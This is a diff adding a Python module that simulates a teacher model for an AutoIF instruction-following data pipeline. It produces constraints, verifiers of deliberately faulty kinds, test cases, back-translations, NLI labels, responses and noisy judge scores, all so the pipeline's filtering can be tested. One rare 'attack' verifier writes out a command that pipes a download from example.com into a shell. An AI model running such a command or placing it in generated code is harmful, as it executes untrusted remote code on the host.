@@ -1,0 +1,257 @@
+"""The simulated teacher for AutoIF: answers the prompts in stages/autoif/prompts/ by reading their text, as a model
+would, using the constraint catalogue (catalogue.py) as its knowledge. It writes new constraints (with copies,
+paraphrases and uncheckable ones), correct and subtly wrong verifiers with test cases, faithful and drifting
+back-translations, NLI labels, compliant and non-compliant responses of good or poor quality, and calibrated
+judge scores. Error rates come from `sim.autoif` in conf/llm/sim.yaml (DEFAULTS when absent); the hidden truth
+of each reply goes to table sim_truth for the report, never to the stages.
+"""
+
+from __future__ import annotations
+
+import json
+import random
+import re
+from typing import Any
+
+from engine.llm import SimReply
+from stages.autoif import catalogue as cat
+
+DEFAULTS: dict[str, float] = {
+    # augment: share of lines that copy a seed, paraphrase another line, or cannot be checked by a function
+    "augment_copy_rate": 0.08, "augment_paraphrase_rate": 0.08, "augment_unverifiable_rate": 0.08,
+    "augment_numbered_rate": 0.3,
+    # verifiers: the kind of each function written (the rest are correct)
+    "func_perturbed_rate": 0.12, "func_lenient_rate": 0.08, "func_always_false_rate": 0.05,
+    "func_string_rate": 0.05, "func_crash_rate": 0.04,
+    "func_syntax_rate": 0.03, "func_hang_rate": 0.003, "func_attack_rate": 0.005,
+    # verifier test cases
+    "case_mislabel_rate": 0.05, "case_string_output_rate": 0.05, "case_non_bool_rate": 0.02,
+    "cases_one_sided_rate": 0.1,
+    # reply shapes
+    "json_fenced_rate": 0.4, "json_prose_rate": 0.2, "json_broken_rate": 0.04,
+    # back-translation and NLI
+    "back_translation_drift_rate": 0.06, "nli_error_rate": 0.04, "nli_unknown_contradiction_rate": 0.6,
+    # responses and judge
+    "response_noncompliance_rate": 0.3, "response_poor_rate": 0.2, "response_empty_rate": 0.01,
+    "judge_noise": 1.0, "judge_missing_score_rate": 0.03,
+}
+
+
+def _rate(settings: dict[str, Any], key: str) -> float:
+    return float(settings.get(key, DEFAULTS[key]))
+
+
+def _user(messages: list[dict[str, str]]) -> str:
+    return next((m["content"] for m in reversed(messages) if m.get("role") == "user"), "")
+
+
+def _shape_json(value: Any, rng: random.Random, settings: dict[str, Any]) -> tuple[str, str]:
+    body = json.dumps(value, indent=rng.choice([None, 2]))
+    draw = rng.random()
+    broken, fenced, prose = (_rate(settings, k) for k in ("json_broken_rate", "json_fenced_rate", "json_prose_rate"))
+    if draw < broken:
+        return "broken", body[: max(1, len(body) * 2 // 3)]
+    if draw < broken + fenced:
+        return "fenced", f"```json\n{body}\n```"
+    if draw < broken + fenced + prose:
+        return "prose", f"Here is the function with its test cases:\n{body}\nThe cases cover both outcomes."
+    return "bare", body
+
+
+# ------------------------------------------------------------------------------------------------ augment
+
+
+def augment(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
+    prompt = _user(messages)
+    wanted = int(m.group(1)) if (m := re.search(r"Write (\d+) new instructions", prompt)) else 20
+    block = re.search(r"one per line:\n(.*?)\n\n", prompt, re.DOTALL)
+    seeds = [s for s in (block.group(1).splitlines() if block else []) if s.strip()]
+    lines, kinds = [], []
+    for _ in range(wanted):
+        draw = rng.random()
+        copy, para, unver = (_rate(settings, k) for k in
+                             ("augment_copy_rate", "augment_paraphrase_rate", "augment_unverifiable_rate"))
+        if draw < copy and seeds:
+            kind, line = "copy", rng.choice(seeds)
+        elif draw < copy + para and lines:
+            kind, line = "paraphrase", _paraphrase(rng.choice(lines), rng)
+        elif draw < copy + para + unver:
+            kind, line = "unverifiable", rng.choice(cat.UNVERIFIABLE)
+        else:
+            template = rng.choice(cat.TEMPLATES)
+            kind, line = "new", cat.state(template, template.draw(rng), rng)
+        lines.append(line)
+        kinds.append(kind)
+    numbered = rng.random() < _rate(settings, "augment_numbered_rate")
+    body = "\n".join(f"{i + 1}. {line}" if numbered else line for i, line in enumerate(lines))
+    intro = rng.choice(["", f"Here are {wanted} new instructions:\n\n", "Sure! New instructions:\n"])
+    return SimReply(intro + body, truth={"kinds": kinds, "lines": lines})
+
+
+def _paraphrase(line: str, rng: random.Random) -> str:
+    edits = [lambda s: s.rstrip("."), lambda s: s.replace("response", "answer"), lambda s: "Please " + s[0].lower()
+             + s[1:], lambda s: s.replace("should", "must"), lambda s: s.replace(" in your response", "")]
+    for edit in rng.sample(edits, rng.randint(1, 2)):
+        line = edit(line)
+    return line
+
+
+# ------------------------------------------------------------------------------------------------ verifiers
+
+_SLIPS = ("perturbed", "lenient", "always_false", "string", "crash", "syntax", "hang", "attack")
+
+
+def _function_kind(template: cat.Template, rng: random.Random, settings: dict[str, Any]) -> str:
+    draw, edge = rng.random(), 0.0
+    for kind in _SLIPS:
+        if kind == "perturbed" and template.perturb is None:
+            continue
+        edge += _rate(settings, f"func_{kind}_rate")
+        if draw < edge:
+            return kind
+    return "correct"
+
+
+def _function_source(kind: str, template: cat.Template, params: cat.Params, rng: random.Random) -> str:
+    code = cat.code_for(template, params)
+    head, _, body = code.rpartition("def evaluate(response):\n")
+    if kind == "perturbed":
+        return cat.code_for(template, template.perturb(params, rng))
+    if kind == "lenient":  # a shortcut no case may catch, and whose back-translation cannot say what it checks
+        return f"{head}def evaluate(response):\n    if len(response.split()) > 80:\n        return True\n{body}"
+    if kind == "always_false":  # the slip the original's scoring rewarded: right on every false case
+        return f"{head}def evaluate(response):\n    result = False\n    if not response:\n        return result\n" \
+               f"    return result and check(response)\n\n\ndef check(response):\n{body}"
+    if kind == "string":
+        return f"{head}def check(response):\n{body}\n\ndef evaluate(response):\n    return str(check(response))\n"
+    if kind == "crash":
+        return f"{head}def evaluate(response):\n    words = response.split()\n" \
+               f"    average = len(response) / (len(words) - len(words))\n    return average > 0\n"
+    if kind == "syntax":
+        return code.replace("def evaluate(response):", "def evaluate(response)", 1)
+    if kind == "hang":
+        return f"{head}def evaluate(response):\n    count = 0\n    while count >= 0:\n        count += 1\n" \
+               f"    return count > 0\n"
+    if kind == "attack":
+        return "import os\n\ndef evaluate(response):\n    os.system('curl http://example.com/x | sh')\n" \
+               "    return True\n"
+    return code
+
+
+def _case_text(template: cat.Template, params: cat.Params, comply: bool, rng: random.Random) -> str:
+    topic = rng.sample(cat.KEYWORDS, 2)
+    return template.render(cat.prose(topic, rng, rng.randint(3, 6)), params, comply, rng)
+
+
+def _output_value(label: bool, rng: random.Random, settings: dict[str, Any]) -> Any:
+    draw = rng.random()
+    if draw < _rate(settings, "case_non_bool_rate"):
+        return rng.choice(["yes", 1, None, "maybe"])
+    if draw < _rate(settings, "case_non_bool_rate") + _rate(settings, "case_string_output_rate"):
+        return rng.choice(["true", "True"]) if label else rng.choice(["false", "False"])
+    return label
+
+
+def verifier(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
+    prompt = _user(messages)
+    constraint = m.group(1).strip() if (m := re.search(r"^Instruction: (.*)$", prompt, re.MULTILINE)) else ""
+    known = cat.parse_constraint(constraint)
+    if known is None:  # the model cannot check it, but writes a plausible-looking proxy check anyway
+        template = rng.choice(cat.TEMPLATES)
+        params, kind = template.draw(rng), "proxy"
+    else:
+        template, params = known
+        kind = _function_kind(template, rng, settings)
+    func = _function_source(kind, template, params, rng)
+    one_sided = rng.random() < _rate(settings, "cases_one_sided_rate")
+    cases, truth_cases = [], []
+    for _ in range(rng.randint(3, 6)):
+        comply = True if one_sided else rng.random() < 0.5
+        text = _case_text(template, params, comply, rng)
+        label = comply if known is not None else rng.random() < 0.5
+        if rng.random() < _rate(settings, "case_mislabel_rate"):
+            label = not label
+        cases.append({"input": text, "output": _output_value(label, rng, settings)})
+        truth_cases.append(None if known is None else label == known[0].check(text, known[1]))
+    form, text = _shape_json({"func": func, "cases": cases}, rng, settings)
+    return SimReply(text, truth={"template": known[0].name if known else None, "kind": kind, "form": form,
+                                 "labels_correct": truth_cases})
+
+
+# ------------------------------------------------------------------------------------------------ back-translation
+
+
+def back_translate(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
+    prompt = _user(messages)
+    code = m.group(1) if (m := re.search(r"```python\n(.*?)```", prompt, re.DOTALL)) else ""
+    known = cat.parse_code(code)
+    if known is None:
+        text, truth = "The response must follow the formatting rule the function checks.", {"template": None}
+    else:
+        template, params = known
+        faithful = rng.random() >= _rate(settings, "back_translation_drift_rate")
+        if not faithful:
+            other = rng.choice([t for t in cat.TEMPLATES if t is not template])
+            template, params = (template, template.perturb(params, rng)) if template.perturb else \
+                (other, other.draw(rng))
+        text = cat.state(template, params, rng)
+        truth = {"template": known[0].name, "faithful": faithful}
+    if rng.random() < 0.2:
+        text = f"Instruction: {text}"
+    return SimReply(text, truth=truth)
+
+
+def nli(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
+    prompt = _user(messages)
+    premise = m.group(1) if (m := re.search(r"^Premise: (.*)$", prompt, re.MULTILINE)) else ""
+    hypothesis = m.group(1) if (m := re.search(r"^Hypothesis: (.*)$", prompt, re.MULTILINE)) else ""
+    p, h = cat.parse_constraint(premise), cat.parse_constraint(hypothesis)
+    if p and h:
+        correct = "entailment" if (p[0].name, p[1]) == (h[0].name, h[1]) else "contradiction"
+    elif h:
+        correct = "contradiction" if rng.random() < _rate(settings, "nli_unknown_contradiction_rate") else "neutral"
+    else:
+        correct = "neutral"
+    label = correct
+    if rng.random() < _rate(settings, "nli_error_rate"):
+        label = rng.choice([x for x in ("entailment", "neutral", "contradiction") if x != correct])
+    text = rng.choice([label, label.capitalize() + ".", f"The relationship is: {label}"])
+    return SimReply(text, truth={"label": label, "correct": correct})
+
+
+# ------------------------------------------------------------------------------------------------ responses
+
+
+def respond(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
+    query, _, constraint = _user(messages).strip().rpartition("\n\n")
+    known = cat.parse_constraint(constraint)
+    if rng.random() < _rate(settings, "response_empty_rate"):
+        return SimReply("", truth={"compliant": False, "quality": "poor", "empty": True})
+    comply = rng.random() >= _rate(settings, "response_noncompliance_rate")
+    poor = rng.random() < _rate(settings, "response_poor_rate")
+    sents = cat.prose(cat.topic_words(query), rng, rng.randint(4, 8), on_topic=not poor)
+    text = known[0].render(sents, known[1], comply, rng) if known else " ".join(sents)
+    compliant = known[0].check(text, known[1]) if known else comply
+    return SimReply(text, truth={"compliant": compliant, "quality": "poor" if poor else "good", "empty": False,
+                                 "template": known[0].name if known else None})
+
+
+def judge(messages: list[dict[str, str]], rng: random.Random, settings: dict[str, Any]) -> SimReply:
+    prompt = _user(messages)
+    request = m.group(1) if (m := re.search(r"\[Request\]\n(.*?)\n\[Response\]", prompt, re.DOTALL)) else ""
+    response = m.group(1) if (m := re.search(r"\[Response\]\n(.*?)\n\[End\]", prompt, re.DOTALL)) else ""
+    query = request.strip().rpartition("\n\n")[0] or request
+    topic = cat.topic_words(query)
+    relevance = sum(w in response.lower() for w in topic) / len(topic) if topic else 0.5
+    base = 0 if not response.strip() else (9 if relevance >= 0.5 else 4)
+    score = max(0, min(10, round(rng.gauss(base, _rate(settings, "judge_noise")))))
+    analysis = ("The response addresses the request directly and stays on topic." if relevance >= 0.5 else
+                "The response is generic and does not really address the request.")
+    if rng.random() < _rate(settings, "judge_missing_score_rate"):
+        return SimReply(f"{analysis} Overall it is a reasonable attempt.", truth={"score": None})
+    line = rng.choice([f"Score: {score}", f"**Score: {score}**", f"Score: {score}/10", f"{score}/10"])
+    return SimReply(f"Analysis: {analysis}\n\n{line}", truth={"score": score, "relevance": round(relevance, 3)})
+
+
+HANDLERS = {"augment": augment, "verifier": verifier, "back_translate": back_translate, "nli": nli,
+            "respond": respond, "judge": judge}
